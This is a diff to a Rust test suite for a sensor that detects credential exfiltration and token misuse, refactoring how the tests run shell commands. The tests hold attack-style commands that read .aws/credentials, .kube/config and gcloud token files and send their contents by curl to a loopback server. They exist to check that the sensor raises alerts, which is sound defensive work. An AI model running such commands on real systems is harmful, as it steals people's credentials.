@@ -1,44 +1,12 @@
 //! Black-box correlation tests (issue 5) with real processes: shell pipelines reading a
 //! store and curl sending to a loopback server.
 
-use std::{
-    io::{BufRead as _, BufReader},
-    process::{Child, Command, Stdio},
-    time::Duration,
-};
+use std::{process::Command, time::Duration};
 
 use serde_json::Value;
-use tests::{Planted, Sensor, TempDir, is_action, kernel_tests_enabled, users::TestUser};
+use tests::{Planted, Sensor, TempDir, http_server, is_action, kernel_tests_enabled, users::TestUser};
 
 const WAIT: Duration = Duration::from_secs(20);
-
-struct Server(Child, u16);
-
-impl Drop for Server {
-    fn drop(&mut self) {
-        let _ = self.0.kill();
-        let _ = self.0.wait();
-    }
-}
-
-fn http_server() -> Server {
-    let mut child = Command::new("python3")
-        .args([
-            "-c",
-            "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n    def do_POST(self):\n        self.rfile.read(int(self.headers.get('Content-Length') or 0)); self.send_response(200); self.end_headers()\n    do_GET = do_POST\n    def log_message(self, *a): pass\ns = h.ThreadingHTTPServer(('127.0.0.1', 0), H)\nprint(s.server_address[1], flush=True)\ns.serve_forever()",
-        ])
-        .stdout(Stdio::piped())
-        .spawn()
-        .expect("server");
-    let mut line = String::new();
-    BufReader::new(child.stdout.take().expect("stdout")).read_line(&mut line).expect("port");
-    Server(child, line.trim().parse().expect("port"))
-}
-
-fn run_as(user: &TestUser, script: &str) {
-    let out = user.sh(script).output().expect("run");
-    assert!(out.status.success(), "`{script}`: {}", String::from_utf8_lossy(&out.stderr));
-}
 
 fn findings<'a>(docs: &'a [Value], action: &str) -> Vec<&'a Value> {
     docs.iter().filter(|d| is_action(d, action)).collect()
@@ -51,13 +19,10 @@ fn reader_and_sender_in_one_lineage_is_exfiltration() {
     let store = user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
     let srv = http_server();
     let sensor = Sensor::start(&[]);
-    run_as(
-        &user,
-        &format!(
-            "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
-            srv.1
-        ),
-    );
+    user.run(&format!(
+        "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
+        srv.1
+    ));
     let d = sensor.wait_for("exfiltration", WAIT, |d| is_action(d, "credential-exfiltration"));
     assert_eq!(d["event"]["kind"], "alert");
     let subs = d["threat"]["technique"]["subtechnique"]["id"].as_array().expect("subtechniques");
@@ -90,16 +55,13 @@ fn stored_token_sent_after_the_window_is_caught_by_provenance() {
     std::fs::set_permissions(tmp.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).expect("chmod");
     let sensor = Sensor::start(&["--correlation-window", "1"]);
     // Copy the token out of the store, wait past the window, then send it.
-    run_as(&user, &format!("grep token: .kube/config | awk '{{print $2}}' > {}", copy.display()));
+    user.run(&format!("grep token: .kube/config | awk '{{print $2}}' > {}", copy.display()));
     std::thread::sleep(Duration::from_secs(3));
-    run_as(
-        &user,
-        &format!(
-            "curl -s -H \"Authorization: Bearer $(cat {})\" http://127.0.0.1:{}/api -o /dev/null",
-            copy.display(),
-            srv.1
-        ),
-    );
+    user.run(&format!(
+        "curl -s -H \"Authorization: Bearer $(cat {})\" http://127.0.0.1:{}/api -o /dev/null",
+        copy.display(),
+        srv.1
+    ));
     let d = sensor.wait_for("provenance", WAIT, |d| is_action(d, "stored-token-misuse"));
     let c = &d["tokenwarden"]["correlation"];
     assert!(c["store"]["path"].as_str().is_some_and(|p| p.ends_with("/.kube/config")), "{d}");
@@ -128,9 +90,7 @@ fn owner_program_sending_its_token_to_its_endpoint_is_quiet() {
     let planted = Planted::new("/usr/bin/curl", "/usr/local/bin/k9s");
     let kubectl = planted.path.as_path();
     let sensor = Sensor::start(&[]);
-    run_as(
-        &user,
-        &format!(
+    user.run(&format!(
             "{k} -s -o /dev/null -K /dev/null --config .kube/config http://127.0.0.1:{p}/x 2>/dev/null; {k} -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{p}/api -o /dev/null",
             k = kubectl.display(),
             p = srv.1
@@ -155,10 +115,10 @@ fn one_token_used_by_two_users_is_reuse() {
     let token = "sharedtoken-0123456789abcdefghij";
     let sensor = Sensor::start(&[]);
     for u in [&alice, &bob] {
-        run_as(
-            u,
-            &format!("curl -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{}/r -o /dev/null", srv.1),
-        );
+        u.run(&format!(
+            "curl -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{}/r -o /dev/null",
+            srv.1
+        ));
     }
     let d = sensor.wait_for("reuse", WAIT, |d| is_action(d, "token-reuse"));
     let subs = d["threat"]["technique"]["subtechnique"]["id"].as_array().expect("subtechniques");
@@ -179,7 +139,7 @@ fn oauth_grants_device_code_flows_and_new_scopes() {
     let secret = "clientsecret-0123456789abcdefghij";
     let sensor = Sensor::start(&[]);
     let post = |path: &str, body: &str| {
-        run_as(&user, &format!("curl -s -d '{body}' http://127.0.0.1:{}{path} -o /dev/null", srv.1));
+        user.run(&format!("curl -s -d '{body}' http://127.0.0.1:{}{path} -o /dev/null", srv.1));
     };
     post(
         "/oauth2/token",
@@ -226,11 +186,9 @@ fn refresh_grant_with_a_stored_token_by_a_non_owner_is_caught() {
         &format!(r#"{{"client_id":"x.apps.googleusercontent.com","client_secret":"d-FL95Q19q7MQmFpd7hHD0Ty","refresh_token":"{rt}","type":"authorized_user"}}"#),
     );
     let sensor = Sensor::start(&["--correlation-window", "1"]);
-    run_as(&user, "cat .config/gcloud/application_default_credentials.json > /dev/null");
+    user.run("cat .config/gcloud/application_default_credentials.json > /dev/null");
     std::thread::sleep(Duration::from_secs(2));
-    run_as(
-        &user,
-        &format!(
+    user.run(&format!(
             "curl -s -d 'grant_type=refresh_token&client_id=x&refresh_token={rt}' http://127.0.0.1:{}/token -o /dev/null",
             srv.1
         ),
@@ -301,9 +259,7 @@ fn a_loop_is_one_alert_then_a_summary_with_its_count() {
     user.write_file(".aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n");
     let srv = http_server();
     let sensor = Sensor::start(&["--correlation-window", "3"]);
-    run_as(
-        &user,
-        &format!(
+    user.run(&format!(
             "for i in 1 2 3 4; do T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/loop -o /dev/null; done",
             srv.1
         ),
